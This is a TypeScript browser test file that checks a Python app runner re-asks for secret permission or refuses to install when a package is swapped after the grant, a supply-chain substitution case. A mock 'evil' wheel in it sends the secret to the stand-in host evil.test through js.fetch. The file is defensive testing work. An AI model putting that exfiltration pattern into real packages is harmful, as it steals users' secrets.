import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { useChromium } from "../harness/chromium.ts";
import { makeWheel } from "../harness/made-wheel.ts";
import { servePackages } from "../harness/package-world.ts";
import { addAndAllow, app, dialog, snippet } from "../harness/snippet.ts";

const { page: newPage } = useChromium();
const canary = "canary-a11-c0ffee";
const program = `
import streamlit as st, pycafe, helper
st.write(helper.WHO)
value = pycafe.get_secret("KEY")
helper.use(value)
st.write(helper.WHO, "has it")
`;
const honest = makeWheel("helper", "1.0", 'WHO = "honest"\ndef use(value): pass\n');
/** Sends whatever it is given away, at once. */
const evil = (version: string) =>
  makeWheel(
    "helper",
    version,
    `
WHO = "evil"
def use(value):
    import js
    js.fetch("https://evil.test/?" + value)
`,
  );

/** Opens the app, allows it the secret, lets `exchange` happen and comes back. */
async function visitTwice(page: Page, requirements: string, exchange: () => void): Promise<void> {
  await page.goto(snippet(program, requirements));
  await addAndAllow(page, "KEY", canary);
  await app(page).getByText("honest has it").waitFor();
  // As long as nothing is exchanged, nobody is asked.
  exchange();
  await page.reload();
  await app(page).getByText("evil", { exact: true }).waitFor();
}

test("attack A11: a wheel behind a requirement's address is exchanged after the grant", async () => {
  const page = await newPage();
  const world = await servePackages(page);
  const address = "https://packages.test/helper-1.0-py3-none-any.whl";
  world.addresses.set(address, honest);
  await visitTwice(page, address, () => world.addresses.set(address, evil("1.0")));
  await dialog(page, "KEY").getByRole("button", { name: "Allow", exact: true }).waitFor();
  expect(await app(page).getByText("evil has it").count()).toBe(0);
  expect(world.leaked.join()).not.toContain(canary);
});

test("attack A11: the index has another version of a package after the grant", async () => {
  const page = await newPage();
  const world = await servePackages(page);
  world.index.set("helper", [honest]);
  await visitTwice(page, "helper", () => world.index.set("helper", [honest, evil("1.1")]));
  const asked = dialog(page, "KEY");
  await asked.getByText("helper 1.0 is now 1.1").waitFor();
  expect(world.leaked.join()).not.toContain(canary);

  await asked.getByRole("button", { name: "Deny" }).click();
  world.index.set("helper", [honest]);
  await page.reload();
  await app(page).getByText("honest has it").waitFor();
});

test("attack A11: what a package depends on has another content under the same version", async () => {
  const page = await newPage();
  const world = await servePackages(page);
  const outer = makeWheel("outer", "3.0", "", ["helper"]);
  world.index.set("outer", [outer]);
  world.index.set("helper", [honest]);
  const pinned = `outer @ https://packages.test/${outer.file}#sha256=${outer.sha256}`;
  world.addresses.set(`https://packages.test/${outer.file}`, outer);
  await visitTwice(page, pinned, () => world.index.set("helper", [evil("1.0")]));
  await dialog(page, "KEY").getByText("helper 1.0 has other contents now").waitFor();
  expect(world.leaked.join()).not.toContain(canary);
});

test("attack A11: content behind a pinned address that was exchanged is not installed", async () => {
  const page = await newPage();
  const world = await servePackages(page);
  const address = `https://packages.test/${honest.file}`;
  world.addresses.set(address, honest);
  await page.goto(snippet(program, `${address}#sha256=${honest.sha256}`));
  await addAndAllow(page, "KEY", canary);
  await app(page).getByText("honest has it").waitFor();
  await page.reload();
  // As long as nothing is exchanged, nobody is asked.
  await app(page).getByText("honest has it").waitFor();

  world.addresses.set(address, evil("1.0"));
  await page.reload();
  await page.getByText(/has another SHA-256/).waitFor();
  expect(world.leaked).toEqual([]);
});

test("attack A11: what an app installs while it runs makes it another one from then on", async () => {
  const page = await newPage();
  const world = await servePackages(page);
  world.addresses.set(`https://packages.test/${honest.file}`, honest);
  const late = `
import micropip, pycafe, streamlit as st
from pyodide.ffi import run_sync
st.write("first", pycafe.get_secret("KEY"))
run_sync(micropip.install("https://packages.test/${honest.file}"))
st.write("second", pycafe.get_secret("KEY"))
st.write("other", pycafe.get_secret("OTHER"))
`;
  await page.goto(snippet(late));
  await addAndAllow(page, "KEY", canary);
  // What it was given it keeps; what it asks for next is asked for with the package.
  await app(page).getByText(`second ${canary}`).waitFor();
  const asked = dialog(page, "OTHER");
  await asked.getByText("It loads 1 package from outside this server").waitFor();
});
